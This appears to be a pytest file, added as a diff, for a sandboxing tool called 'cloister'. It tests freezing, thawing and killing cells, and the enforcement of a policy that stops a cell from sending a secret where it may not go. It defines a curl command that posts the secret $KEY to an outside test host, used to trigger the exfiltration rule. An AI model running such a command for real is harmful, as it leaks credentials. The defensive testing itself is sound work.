@@ -1,0 +1,179 @@
+"""`freeze` and `thaw`, and cells that are stopped for sending a secret where it may not go."""
+import os
+import re
+import signal
+import subprocess
+from pathlib import Path
+
+import pytest
+
+import leftovers
+from egress_lab import CURL, await_event
+from operators import is_alive, only_root, only_user, wait_until
+from test_egress_secrets import UP, canary, give
+
+POLICY = "version: 1\negress:\n  - allow: '*.example.test'\nexfiltration: {}\n"
+LEAK = f'{" ".join(CURL)} -d "$KEY" {UP}/echo'
+
+
+def state(operator, cell):
+    return operator.cell(cell)["state"]
+
+
+def is_frozen(cell):
+    """What the kernel says: all of it."""
+    for group in leftovers.cgroups([cell]):
+        for name, wanted in (("cgroup.events", "frozen 1"), ("freezer.state", "FROZEN")):
+            try:
+                if wanted in (Path(group) / name).read_text():
+                    return True
+            except OSError:
+                continue
+    return False
+
+
+def await_frozen(cell):
+    wait_until(lambda: is_frozen(cell), "all of it is frozen")
+
+
+@only_root
+def test_it_stops_and_goes_on(operator):
+    cell = operator.detach("--name", "cold", "--", "sleep", "infinity")
+    assert state(operator, cell) == "running" and not is_frozen(cell)
+    assert operator.cloister("freeze", "cold").ok() == ""
+    await_frozen(cell)
+    assert state(operator, cell) == "frozen" and "frozen" in operator.cloister("ps").ok()
+    operator.cloister("exec", cell, "--", "true").sentence("is frozen", "cloister thaw")
+    operator.cloister("freeze", cell).ok()          # it is so already
+    operator.cloister("thaw", cell).ok()
+    assert state(operator, cell) == "running" and not is_frozen(cell)
+    operator.cloister("exec", cell, "--", "true").ok()
+    operator.cloister("thaw", cell).ok()
+    operator.cloister("kill", cell).ok()
+    operator.cloister("freeze", cell).sentence("has ended")
+    operator.cloister("freeze").sentence("which cell?")
+
+
+@only_root
+@pytest.mark.parametrize("verb", ["kill", "stop"])
+def test_a_frozen_cell_can_be_ended(operator, verb):
+    cell = operator.detach("--", "sh", "-c", "trap '' TERM; sleep infinity & wait")
+    pids = operator.pids(cell)
+    operator.cloister("freeze", cell).ok()
+    await_frozen(cell)
+    operator.cloister(verb, cell).ok()
+    wait_until(lambda: not any(is_alive(pid) for pid in pids), "all of them are dead")
+
+
+@only_root
+@pytest.mark.parametrize("verb", ["kill", "stop", "thaw"])
+def test_with_cgroups_of_version_1(operator, verb):
+    """What is frozen there is not even killed."""
+    if not Path("/sys/fs/cgroup/unified/cgroup.procs").exists() or not Path("/sys/fs/cgroup/freezer").exists():
+        pytest.skip("this machine has no version 1")
+    done = operator.do("unshare", "-m", "--propagation", "private", "sh", "-c",
+                       'umount /sys/fs/cgroup/unified && exec "$@"', "sh", operator.program, "run", "-d", "--",
+                       "sh", "-c", "sleep infinity & wait")
+    cell = done.ok().strip()
+    operator.kept.add(cell)
+    assert all("/unified/" not in group for group in leftovers.cgroups([cell]))
+    pids = operator.pids(cell)
+    operator.cloister("freeze", cell).ok()
+    await_frozen(cell)
+    operator.cloister(verb, cell).ok()
+    if verb == "thaw":
+        operator.cloister("exec", cell, "--", "true").ok()
+        operator.cloister("kill", cell).ok()
+    wait_until(lambda: not any(is_alive(pid) for pid in pids), "all of them are dead")
+
+
+@only_user
+def test_without_a_cgroup_it_is_refused(operator):
+    cell = operator.detach("--", "sleep", "infinity")
+    if leftovers.cgroups([cell]):
+        operator.cloister("kill", cell).ok()
+        pytest.skip("this user has cgroups")
+    operator.cloister("freeze", cell).sentence("cannot freeze the cell: it has no cgroup that can")
+    assert state(operator, cell) == "running"
+    operator.cloister("thaw", cell).ok()
+    operator.cloister("kill", cell).ok()
+
+
+# ---- exfiltration ------------------------------------------------------------------------
+
+def start(online, word, script, *options):
+    give(online, canary())
+    return online.start(online.policy(POLICY.format(word)), "sh", "-c", script, options=["-s", "KEY", *options])
+
+
+def test_it_is_refused_and_no_more(online):
+    start(online, "refuse", f"{LEAK}; exec sleep infinity")
+    assert await_event(online, type="http", verdict="deny")["why"] == "exfiltration"
+    assert state(online.operator, online.cell) == "running" and online.events(type="cell") == []
+    online.operator.cloister("kill", online.cell).ok()
+
+
+@only_root
+def test_it_freezes(online):
+    start(online, "freeze", f"while :; do {LEAK}; done")
+    event = await_event(online, type="cell", did="frozen")
+    assert event["by"] == "exfiltration"
+    await_frozen(online.cell)
+    assert state(online.operator, online.cell) == "frozen"
+    # It was told before it was done.
+    assert online.events(type="http", why="exfiltration")[0]["n"] < event["n"]
+    assert "cell frozen" in online.operator.cloister("events", online.cell).ok()
+    assert "where that secret may not go" in online.operator.cloister("why", online.cell).ok()
+    # An operator lets it go on: the next one stops it again, though it is of the same kind.
+    online.operator.cloister("thaw", online.cell).ok()
+    thawed = await_event(online, type="cell", did="thawed")
+    assert thawed["by"].startswith("uid 0, pid ")
+    wait_until(lambda: len(online.events(type="cell", did="frozen")) == 2, "it is frozen again")
+    await_frozen(online.cell)
+    online.operator.cloister("kill", online.cell).ok()
+
+
+@only_user
+def test_what_cannot_be_frozen_is_killed(online):
+    cell = start(online, "freeze", f"{LEAK}; exec sleep infinity")
+    if leftovers.cgroups([cell]):
+        pytest.skip("this user has cgroups")
+    assert online.operator.cloister("wait", cell).status == 137
+    ended, = [c for c in online.operator.cells("-a") if c["cell"] == cell]
+    assert "sent a secret to where that may not go" in ended["cause"] and "cannot freeze" in ended["cause"]
+    assert [e["by"] for e in online.events(type="cell", did="killed")] == ["exfiltration"]
+
+
+def test_it_kills(online):
+    cell = start(online, "kill", f"{LEAK}; exec sleep infinity")
+    assert online.operator.cloister("wait", cell).status == 137
+    ended, = [c for c in online.operator.cells("-a") if c["cell"] == cell]
+    assert ended["cause"] == "it sent a secret to where that may not go, and was killed"
+    assert online.refusal(type="http")["why"] == "exfiltration"
+
+
+@only_root
+def test_in_the_foreground_it_is_said(online):
+    give(online, canary())
+    policy = online.policy(POLICY.format("freeze"))
+    process = online.operator.start("--name", "cold", "-p", policy, "-s", "KEY", "--", "sh", "-c",
+                                    f"echo $CLOISTER_CELL; {LEAK}; exec sleep infinity",
+                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    cell = process.stdout.readline().decode().strip()
+    online.operator.kept.add(cell)
+    said = process.stderr.readline().decode()
+    assert re.match(r"cloister: cell cold: it sent a secret .* is frozen: .*cloister thaw cold", said), said
+    await_frozen(cell)
+    # Nobody in there can act on it.
+    os.kill(online.operator.cell(cell)["supervisor"], signal.SIGINT)
+    _, err = process.communicate(timeout=60)
+    assert b"an operator ended it" in err
+    assert process.returncode in (137, -9)
+
+
+def test_only_what_the_policy_says_stops_a_cell(online):
+    """A courier that says so all the same breaks the rules; other refusals are no reason."""
+    start(online, "freeze", f'{" ".join(CURL)} https://nowhere.example/; exec sleep infinity')
+    await_event(online, type="dns", verdict="deny")
+    assert state(online.operator, online.cell) == "running" and online.events(type="cell") == []
+    online.operator.cloister("kill", online.cell).ok()
